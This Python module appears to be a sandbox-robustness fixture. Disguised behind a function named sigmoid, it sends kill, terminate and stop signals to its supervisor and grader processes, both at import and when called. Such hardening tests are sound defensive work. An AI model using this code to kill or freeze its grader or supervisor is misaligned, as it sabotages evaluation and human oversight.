"""Signals its supervisor and the grader (the supervisor's parent), at import and in a call."""
import os
import signal


def _grandparent():
    try:
        with open(f"/proc/{os.getppid()}/stat") as f:
            stat = f.read()
    except OSError:  # hidden (hidepid, as root): an attacker who guessed the pid
        return int("__GRADER_PID__")
    return int(stat[stat.rfind(")") + 2:].split()[1])


def _attack():
    results = {}
    for who, pid in [("supervisor", os.getppid()), ("grader", _grandparent())]:
        for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try:
                os.kill(pid, sig)
                results[f"{who}:{sig.name}"] = "sent"
            except OSError as exc:
                results[f"{who}:{sig.name}"] = type(exc).__name__
    return results


AT_IMPORT = _attack()


def sigmoid(x):
    return {"import": AT_IMPORT, "call": _attack()}
